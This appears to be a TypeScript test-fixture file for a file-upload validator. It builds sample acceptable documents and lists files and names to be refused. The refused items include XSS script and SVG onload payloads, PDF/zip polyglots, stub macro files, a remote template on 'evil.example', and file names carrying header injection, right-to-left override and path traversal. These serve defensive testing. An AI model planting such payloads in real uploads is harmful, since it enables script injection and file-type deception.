import { deflateRawSync } from 'node:zlib';

import { drawPicture } from '../../server/seed/draw-image.ts';
import { buildZip, type ZipEntry } from './build-zip.ts';
import { createSmallMp4 } from './small-mp4.ts';

const contentTypes = (main: string, more = ''): string =>
  `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="${main}"/>${more}</Types>`;

const mainTypes = {
  docx: ['word/document.xml', 'wordprocessingml.document'],
  xlsx: ['xl/workbook.xml', 'spreadsheetml.sheet'],
  pptx: ['ppt/presentation.xml', 'presentationml.presentation'],
} as const;

/** The entries of a small Office Open XML file. */
function createOfficeEntries(kind: keyof typeof mainTypes): readonly ZipEntry[] {
  const [path, type] = mainTypes[kind];
  return [
    {
      name: '[Content_Types].xml',
      content: contentTypes(`application/vnd.openxmlformats-officedocument.${type}.main+xml`),
      isDeflated: true,
    },
    { name: '_rels/.rels', content: '<Relationships/>' },
    { name: path, content: '<document/>', isDeflated: true },
  ];
}

/** A small Office Open XML file with further entries. */
const createOfficeFile = (kind: keyof typeof mainTypes, more: readonly ZipEntry[] = []): Buffer =>
  buildZip([...createOfficeEntries(kind), ...more]);

/** A Word document that says in its list of parts that it has macros. */
const createMacroDocument = (): Buffer =>
  buildZip([
    {
      name: '[Content_Types].xml',
      content: contentTypes(
        'application/vnd.ms-word.document.macroEnabled.main+xml',
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
      ),
    },
    { name: 'word/document.xml', content: '<document/>' },
    { name: 'word/vbaProject.bin', content: 'macros' },
  ]);

/** A small OpenDocument file with further entries. */
const createOpenDocument = (
  kind: 'text' | 'spreadsheet' | 'presentation',
  more: readonly ZipEntry[] = [],
): Buffer =>
  buildZip([
    { name: 'mimetype', content: `application/vnd.oasis.opendocument.${kind}` },
    { name: 'content.xml', content: '<office:document-content/>', isDeflated: true },
    ...more,
  ]);

/** A PDF of one page with `text`, and `more` bytes of filling in a stream. */
export function createPdf(text = 'A page', more = 0): Buffer {
  const content = `BT /F1 24 Tf 72 700 Td (${text}) Tj ET`;
  const filling = Buffer.alloc(more, 'x').toString('latin1');
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${String(content.length)} >>\nstream\n${content}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Length ${String(more)} >>\nstream\n${filling}\nendstream`,
  ];
  let text_ = '%PDF-1.7\n';
  const offsets = objects.map((object, index) => {
    const at = text_.length;
    text_ += `${String(index + 1)} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const start = text_.length;
  text_ += `xref\n0 ${String(objects.length + 1)}\n0000000000 65535 f \n`;
  for (const at of offsets) text_ += `${String(at).padStart(10, '0')} 00000 n \n`;
  text_ += `trailer\n<< /Size ${String(objects.length + 1)} /Root 1 0 R >>\nstartxref\n${String(start)}\n%%EOF\n`;
  return Buffer.from(text_, 'latin1');
}

/** A picture of random colours. */
const createPng = (): Buffer => Buffer.from(drawPicture(1, 60, 40));

/** An MP3 of five silent frames (MPEG 1, layer III, 128 kbit/s, 44.1 kHz), behind a tag. */
function createMp3(): Buffer {
  const frame = Buffer.alloc(417);
  frame.set([0xff, 0xfb, 0x90, 0x00]);
  const tag = Buffer.from([0x49, 0x44, 0x33, 3, 0, 0, 0, 0, 0, 10]);
  return Buffer.concat([tag, Buffer.alloc(10), ...Array.from({ length: 5 }, () => frame)]);
}

/** One acceptable document of every kind, by its name. */
export const goodDocuments: readonly (readonly [name: string, content: Buffer, type: string])[] = [
  ['notes.pdf', createPdf(), 'application/pdf'],
  [
    'outline.docx',
    createOfficeFile('docx'),
    'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
  ],
  [
    'data.xlsx',
    createOfficeFile('xlsx'),
    'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
  ],
  [
    'lecture.pptx',
    createOfficeFile('pptx'),
    'application/vnd.openxmlformats-officedocument.presentationml.presentation',
  ],
  ['outline.odt', createOpenDocument('text'), 'application/vnd.oasis.opendocument.text'],
  ['data.ods', createOpenDocument('spreadsheet'), 'application/vnd.oasis.opendocument.spreadsheet'],
  [
    'lecture.odp',
    createOpenDocument('presentation'),
    'application/vnd.oasis.opendocument.presentation',
  ],
  ['gel.png', createPng(), 'image/png'],
  ['list.txt', Buffer.from('Ångström\n'), 'text/plain; charset=UTF-8'],
  ['old list.txt', Buffer.from('\u00c5ngstr\u00f6m', 'latin1'), 'text/plain; charset=windows-1252'],
  ['groups.csv', Buffer.from('name;group\nAna;1\n'), 'text/csv; charset=UTF-8'],
  ['pipetting.mp4', createSmallMp4(), 'video/mp4'],
  ['lecture.mp3', createMp3(), 'audio/mpeg'],
];

const script = '<script>alert(document.domain)</script>';
const zip = createOfficeFile('docx');
const compound = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]);

/** Documents that are refused: what each is, its name, its content, and the reason. */
export const hostileDocuments: readonly (readonly [
  title: string,
  name: string,
  content: Buffer,
  reason: string,
])[] = [
  ['HTML as .pdf', 'notes.pdf', Buffer.from(`<html>${script}</html>`), 'otherContent'],
  ['HTML as .html', 'notes.html', Buffer.from(`<html>${script}</html>`), 'wrongKind'],
  ['HTML before a PDF', 'a.pdf', Buffer.concat([Buffer.from(script), createPdf()]), 'otherContent'],
  [
    'HTML in the head of a PDF',
    'a.pdf',
    Buffer.concat([Buffer.from(`%PDF-1.7\n%${script}\n`), createPdf()]),
    'mixedContent',
  ],
  ['a zip behind a PDF', 'a.pdf', Buffer.concat([createPdf(), zip]), 'mixedContent'],
  [
    'a zip whose comment ends as a PDF',
    'a.pdf',
    Buffer.concat([createPdf(), buildZip([{ name: 'a', content: 'b' }], { comment: '\n%%EOF' })]),
    'mixedContent',
  ],
  ['a truncated PDF', 'a.pdf', createPdf().subarray(0, 200), 'damaged'],
  [
    'an SVG with a script',
    'a.svg',
    Buffer.from(`<svg onload="alert(1)">${script}</svg>`),
    'wrongKind',
  ],
  ['an SVG as .png', 'a.png', Buffer.from(`<svg>${script}</svg>`), 'otherContent'],
  ['a zip behind a picture', 'a.png', Buffer.concat([createPng(), zip]), 'otherContent'],
  ['a picture as .pdf', 'a.pdf', createPng(), 'otherContent'],
  ['a PDF as .txt', 'a.txt', createPdf(), 'otherContent'],
  ['a program as .txt', 'a.txt', Buffer.from('\u0000\u0001\u0002text'), 'notText'],
  ['a macro document', 'a.docm', createMacroDocument(), 'macros'],
  ['a macro document as .docx', 'a.docx', createMacroDocument(), 'macros'],
  [
    'macros added to a document',
    'a.docx',
    createOfficeFile('docx', [{ name: 'word/vbaProject.bin', content: 'x' }]),
    'macros',
  ],
  [
    'old macro sheets',
    'a.xlsx',
    createOfficeFile('xlsx', [{ name: 'xl/macrosheets/sheet1.xml', content: 'x' }]),
    'macros',
  ],
  [
    'macros of OpenDocument',
    'a.odt',
    createOpenDocument('text', [{ name: 'Basic/Standard/Module1.xml', content: 'x' }]),
    'macros',
  ],
  [
    'an embedded macro document',
    'a.docx',
    createOfficeFile('docx', [{ name: 'word/embeddings/report.docm', content: 'x' }]),
    'embeddedMacros',
  ],
  [
    'an embedded object with macros',
    'a.docx',
    createOfficeFile('docx', [
      { name: 'word/embeddings/oleObject1.bin', content: Buffer.from('_VBA_PROJECT', 'utf16le') },
    ]),
    'embeddedMacros',
  ],
  [
    'a template from elsewhere',
    'a.docx',
    createOfficeFile('docx', [
      {
        name: 'word/_rels/settings.xml.rels',
        content:
          '<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>',
      },
    ]),
    'remoteTemplate',
  ],
  ['a spreadsheet as .docx', 'a.docx', createOfficeFile('xlsx'), 'otherContent'],
  ['a plain zip as .docx', 'a.docx', buildZip([{ name: 'a', content: 'b' }]), 'otherContent'],
  [
    'a script before a document',
    'a.docx',
    Buffer.concat([Buffer.from(script), zip]),
    'otherContent',
  ],
  ['a document cut off', 'a.docx', zip.subarray(0, zip.length - 30), 'damaged'],
  ['an older document', 'a.doc', compound, 'oldOffice'],
  ['an older document as .docx', 'a.docx', compound, 'encrypted'],
  ['compressed bytes as .mp3', 'a.mp3', deflateRawSync(Buffer.alloc(3000, 'abc')), 'otherContent'],
  ['HTML as .mp4', 'a.mp4', Buffer.from(script.repeat(9)), 'otherContent'],
  ['an empty file', 'a.pdf', Buffer.alloc(0), 'empty'],
];

/** Names that are refused, and the reason. */
export const hostileNames: readonly (readonly [title: string, name: string, reason: string])[] = [
  ['a line break', 'notes\r\nX-Evil: 1.pdf', 'hiddenCharacters'],
  ['a right-to-left override', 'notes\u202efdp.exe.pdf', 'hiddenCharacters'],
  ['an isolate', 'notes\u2066.pdf', 'hiddenCharacters'],
  ['a NUL', 'notes\u0000.pdf', 'hiddenCharacters'],
  ['a path up', '../../notes.pdf', 'pathInName'],
  ['a path of Windows', '..\\notes.pdf', 'pathInName'],
  ['only an extension', '.pdf', 'noName'],
  ['too many characters', `${'a'.repeat(300)}.pdf`, 'nameTooLong'],
];

/** Names that are kept, with how each is stored. */
export const ordinaryNames: readonly (readonly [given: string, stored: string])[] = [
  ['دليل المختبر.pdf', 'دليل المختبر.pdf'],
  ['מדריך מעבדה.pdf', 'מדריך מעבדה.pdf'],
  ['实验手册 第七周.pdf', '实验手册 第七周.pdf'],
  ['A\u030angstro\u0308m.pdf', '\u00c5ngstr\u00f6m.pdf'],
  ['  Week 7 (final), "quoted" & 100%.PDF ', 'Week 7 (final), "quoted" & 100%.PDF'],
  ['👩‍🔬 lab.pdf', '👩‍🔬 lab.pdf'],
];
